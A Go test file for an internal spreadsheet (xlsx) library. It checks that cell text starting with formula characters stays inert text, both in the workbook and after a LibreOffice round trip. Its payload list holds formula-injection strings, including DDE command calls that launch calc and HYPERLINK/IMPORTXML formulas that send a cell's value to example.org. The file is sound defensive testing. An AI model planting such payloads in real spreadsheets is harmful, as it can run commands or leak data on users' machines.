package xlsx_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"shenbao/internal/xlsx"
)

// payloads are texts that a spreadsheet could take for a formula, in the cell
// or after it was saved as comma-separated text.
var payloads = func() []string {
	var out []string
	for _, first := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "\"=", ";=", ",=", "\u00a0=", "\u200b=", "\ufeff=", "%3D"} {
		for _, rest := range []string{
			"1+1",
			"cmd|'/C calc'!A0",
			`HYPERLINK("http://example.org?x="&A1,"点这里")`,
			`IMPORTXML(CONCAT("http://example.org/",A1),"//a")`,
		} {
			out = append(out, first+rest)
		}
	}
	return append(out, "=", "-5", "+86 531 5170 8803", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "DDE(\"cmd\";\"/C calc\";\"x\")", "{=1+1}", "=\x00=1", "_x003D_1+1", "#REF!", "TRUE")
}()

// raw is a workbook as encoding/xml reads it: another reader than ours and than
// the one that wrote it.
type raw struct {
	Cols []struct {
		Min    int  `xml:"min,attr"`
		Hidden bool `xml:"hidden,attr"`
	} `xml:"cols>col"`
	Rows []struct {
		Cells []rawCell `xml:"c"`
	} `xml:"sheetData>row"`
	Validations []struct {
		Type   string `xml:"type,attr"`
		Area   string `xml:"sqref,attr"`
		Prompt string `xml:"prompt,attr"`
		Source string `xml:"formula1"`
	} `xml:"dataValidations>dataValidation"`
}

type rawCell struct {
	Ref     string    `xml:"r,attr"`
	Type    string    `xml:"t,attr"`
	Style   int       `xml:"s,attr"`
	Value   string    `xml:"v"`
	Text    string    `xml:"is>t"`
	Formula *struct{} `xml:"f"`
}

func readRaw(t *testing.T, data []byte, part string, into any) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(part)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := xml.NewDecoder(f).Decode(into); err != nil {
		t.Fatal(err)
	}
}

// sample is a workbook with every payload in a column, and one of everything
// else.
func sample(t *testing.T) []byte {
	t.Helper()
	table := xlsx.Table{
		Sheet: "人员",
		Spare: 20,
		Fields: []xlsx.Field{
			{Title: "编号", Hidden: true},
			{Title: "姓名", Must: true, Note: "与证件一致"},
			{Title: "出生日期", Date: true},
			{Title: "原值（万元）", Number: true},
			{Title: "岗位", Options: []string{"科研", "管理"}, Note: "选一个"},
		},
		Rows: func(yield func([]any) bool) {
			for i, p := range payloads {
				if !yield([]any{"id" + strconv.Itoa(i), p, time.Date(1980, 1, 31, 0, 0, 0, 0, time.UTC), 1234.56, "科研"}) {
					return
				}
			}
			yield([]any{"last", "𠅤小明", nil, int64(7), ""})
		},
	}
	var b bytes.Buffer
	if err := xlsx.Write(&b, []xlsx.Table{table}, xlsx.Prose{Sheet: "填表说明", Lines: []string{"=第一行", "第二行"}}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// A text stays a text: typed so in the XML, in a column formatted as text,
// unchanged but for what XML has no place for.
func TestTextIsNoFormula(t *testing.T) {
	data := sample(t)
	var sheet raw
	readRaw(t, data, "xl/worksheets/sheet1.xml", &sheet)
	var styles struct {
		Formats []struct {
			Number int `xml:"numFmtId,attr"`
		} `xml:"cellXfs>xf"`
	}
	readRaw(t, data, "xl/styles.xml", &styles)
	if len(sheet.Rows) != len(payloads)+2 {
		t.Fatalf("%d rows", len(sheet.Rows))
	}
	for i, p := range payloads {
		c := sheet.Rows[i+1].Cells[1]
		if got := unescaped(c.Text); c.Type != "inlineStr" || c.Formula != nil || c.Value != "" || got != strings.ReplaceAll(p, "\x00", "") {
			t.Errorf("%q became %q of type %s", p, got, c.Type)
		}
		if f := styles.Formats[c.Style].Number; f != 49 {
			t.Errorf("%q is formatted as %d, not as text", p, f)
		}
	}
}

// unescaped reads the one escape that the payloads need.
func unescaped(s string) string { return strings.ReplaceAll(s, "_x005F_", "_") }

func TestTemplate(t *testing.T) {
	data := sample(t)
	var sheet raw
	readRaw(t, data, "xl/worksheets/sheet1.xml", &sheet)
	if len(sheet.Cols) != 5 || sheet.Cols[0].Min != 1 || !sheet.Cols[0].Hidden || sheet.Cols[1].Min != 2 || sheet.Cols[1].Hidden {
		t.Errorf("columns %+v: the key must be out of sight", sheet.Cols)
	}
	last := strconv.Itoa(len(payloads) + 2 + 20)
	var got []string
	for _, v := range sheet.Validations {
		got = append(got, v.Type+" "+v.Area+" "+v.Prompt+" "+v.Source)
	}
	want := []string{" B1:B" + last + " 与证件一致 ", "list E2:E" + last + " 选一个 _options!$A$1:$A$2"}
	if !slices.Equal(got, want) {
		t.Errorf("validations %q, want %q", got, want)
	}
	b, err := xlsx.Open("a.xlsx", data, xlsx.Roster)
	if err != nil {
		t.Fatal(err)
	}
	names := ""
	for _, s := range b.Sheets {
		names += s.Name + strconv.FormatBool(s.Hidden) + " "
	}
	if names != "人员false 填表说明false _optionstrue " {
		t.Errorf("sheets %s", names)
	}
	rows, err := b.Rows(b.Sheets[0])
	if err != nil {
		t.Fatal(err)
	}
	if day, ok := b.Day(rows[1].Cell(2)); !ok || xlsx.Date(day).Format("2006-01-02") != "1980-01-31" {
		t.Errorf("the day came back as %v", rows[1].Cell(2))
	}
	if got := show(rows[len(rows)-1:]); !strings.Contains(got, `t"last" t"𠅤小明" -"" n"7"`) {
		t.Errorf("the last row came back as %s", got)
	}
}

// libreOffice converts the sample workbook and returns what it wrote.
func libreOffice(t *testing.T, to, ending string) []byte {
	t.Helper()
	office, err := exec.LookPath("soffice")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("LibreOffice is not installed: the second reader did not run")
		}
		t.Skip("LibreOffice is not installed")
	}
	dir := t.TempDir()
	out := filepath.Join(dir, "out")
	if err := os.WriteFile(filepath.Join(dir, "a.xlsx"), sample(t), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), office, "-env:UserInstallation=file://"+dir+"/profile", "--headless", "--convert-to", to,
		"--outdir", out, filepath.Join(dir, "a.xlsx"))
	if said, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	files, _ := filepath.Glob(filepath.Join(out, "*"+ending))
	if len(files) == 0 {
		t.Fatal("LibreOffice wrote nothing")
	}
	data, err := os.ReadFile(files[0])
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// LibreOffice stands in for the spreadsheets of the readers: what it shows is
// what was written, and nothing was calculated.
func TestLibreOffice(t *testing.T) {
	r := csv.NewReader(bytes.NewReader(libreOffice(t, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1", ".csv")))
	records, err := r.ReadAll()
	if err != nil || len(records) != len(payloads)+2 {
		t.Fatalf("%d records, %v", len(records), err)
	}
	for i, p := range payloads {
		if got := records[i+1]; got[1] != strings.ReplaceAll(p, "\x00", "") || got[2] != "1980-01-31" || got[3] != "1234.56" {
			t.Errorf("%q is shown as %q", p, got)
		}
	}
}

// What LibreOffice saves, we read: with shared texts, styles and parts of its
// own.
func TestReadLibreOffice(t *testing.T) {
	book, err := xlsx.Open("a.xlsx", libreOffice(t, "xlsx", ".xlsx"), xlsx.Roster)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := book.Rows(book.Sheets[0])
	if err != nil || len(rows) != len(payloads)+2 || len(book.Sheets) != 3 || !book.Sheets[2].Hidden {
		t.Fatalf("%d rows, sheets %+v, %v", len(rows), book.Sheets, err)
	}
	for i, p := range payloads {
		row := rows[i+1]
		day, ok := book.Day(row.Cell(2))
		if want := strings.TrimSpace(strings.ReplaceAll(p, "\x00", "")); row.Cell(1) != (xlsx.Cell{Kind: xlsx.Text, Text: want}) ||
			!ok || xlsx.Date(day).Year() != 1980 || row.Cell(3) != (xlsx.Cell{Kind: xlsx.Number, Text: "1234.56"}) {
			t.Errorf("%q came back as %+v", p, row.Cells)
		}
	}
}

// A workbook of many rows is written without holding them.
func TestManyRows(t *testing.T) {
	table := xlsx.Table{Sheet: "名录", Fields: make([]xlsx.Field, 12), Rows: func(yield func([]any) bool) {
		row := make([]any, 12)
		for i := range 20_000 {
			for j := range row {
				row[j] = "第" + strconv.Itoa(i) + "行"
			}
			if !yield(row) {
				return
			}
		}
	}}
	var b bytes.Buffer
	if err := xlsx.Write(&b, []xlsx.Table{table}, xlsx.Prose{}); err != nil {
		t.Fatal(err)
	}
	book, err := xlsx.Open("a.xlsx", b.Bytes(), xlsx.Register)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := book.Rows(book.Sheets[0])
	if err != nil || len(rows) != 20_000 || rows[19_999].Cell(11).Text != "第19999行" {
		t.Errorf("%d rows, %v", len(rows), err)
	}
}
